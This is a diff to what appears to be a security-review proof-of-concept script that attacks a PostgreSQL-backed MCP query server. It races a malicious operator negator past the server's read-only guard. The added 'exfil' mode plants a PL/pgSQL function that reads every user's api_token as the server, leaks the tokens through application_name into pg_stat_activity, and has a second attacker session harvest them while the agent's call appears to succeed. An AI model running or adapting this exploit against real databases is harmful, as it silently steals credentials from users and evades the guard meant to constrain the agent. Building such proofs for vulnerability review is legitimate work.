@@ -8,8 +8,11 @@ Deterministic with MAINTAIN on a table the statement reads (GRANT MAINTAIN, or m
 pg_maintain): REINDEX of its index in an open transaction holds the server's statement while the
 materialized CTE is planned, after the check and the parse, before the main WHERE is simplified.
 Without MAINTAIN the same ALTER can race the check like F4.
-Usage: PYTHONPATH=tests:security-review uv run python security-review/race_negator.py [reader|postgres] [static]
-  static: no race, the negator set before the call (control: the guard must refuse it)"""
+Usage: PYTHONPATH=tests:security-review uv run python security-review/race_negator.py [reader|postgres] [race|static|exfil]
+  static: no race, the negator set before the call (control: the guard must refuse it)
+  exfil: silent: the negator reads public.users.api_token as the server, shows it in the server
+  backend's application_name (pg_stat_activity shows that to every role) and answers false, so
+  the agent's call succeeds; the attacker's third session reads the tokens."""
 import asyncio, json, os, sys, time
 import asyncpg
 from mcpclient import connect
@@ -30,6 +33,15 @@ GRANT EXECUTE ON FUNCTION atk.neg_evil(int, int) TO PUBLIC;
 CREATE OPERATOR atk.=== (LEFTARG = int, RIGHTARG = int, FUNCTION = pg_catalog.int4eq);
 CREATE OPERATOR atk.!=== (LEFTARG = int, RIGHTARG = int, FUNCTION = atk.neg_evil);
 """
+EXFIL = r"""
+CREATE OR REPLACE FUNCTION atk.neg_evil(int, int) RETURNS boolean IMMUTABLE LANGUAGE plpgsql AS $f$
+BEGIN
+  PERFORM pg_catalog.set_config('application_name',
+    'LEAK ' || (SELECT pg_catalog.string_agg(api_token, ',') FROM public.users), false);
+  PERFORM pg_catalog.pg_sleep(0.5);
+  RETURN false;
+END $f$;
+"""
 SQL = ("WITH w AS MATERIALIZED (SELECT id FROM public.users ORDER BY id LIMIT 1) "
        "SELECT w.id FROM w WHERE NOT (w.id OPERATOR(atk.===) {n})")
 
@@ -37,6 +49,8 @@ async def main(role: str, mode: str) -> None:
     admin = await asyncpg.connect(DSN)
     await admin.execute("GRANT MAINTAIN ON public.users TO attacker")
     a = await asyncpg.connect(as_role("attacker")); await a.execute(SETUP_ATK)
+    if mode == "exfil":
+        await a.execute(EXFIL)
     b = await asyncpg.connect(as_role("attacker"))
     server_role = "postgres" if role == "postgres" else role
     async with connect(DSN if role == "postgres" else as_role(role)) as c:
@@ -64,8 +78,15 @@ async def main(role: str, mode: str) -> None:
             await b.execute("ALTER OPERATOR atk.===(int, int) SET (NEGATOR = OPERATOR(atk.!===))")
             print("negator set and committed by a second attacker session")
             await a.execute("COMMIT")
+            if mode == "exfil":
+                seen = set()
+                while not call.done():
+                    for r in await b.fetch("SELECT application_name FROM pg_stat_activity WHERE application_name LIKE 'LEAK %'"):
+                        seen.add(r[0])
+                    await asyncio.sleep(0.02)
+                print("attacker's session read from pg_stat_activity:", sorted(seen))
             ok, body = await call
-            print("call:", ok, json.dumps(body.get("error", body))[:400])
+            print("call:", ok, json.dumps(body.get("error", body.get("rows", body)))[:400])
         after = await admin.fetchval("SELECT pg_current_xact_id()::text")
         print("next xid before/after (admin session, 1 each):", before, after)
         ok, body = await tool(c, "execute_query", sql="SELECT current_setting('application_name') AS app")
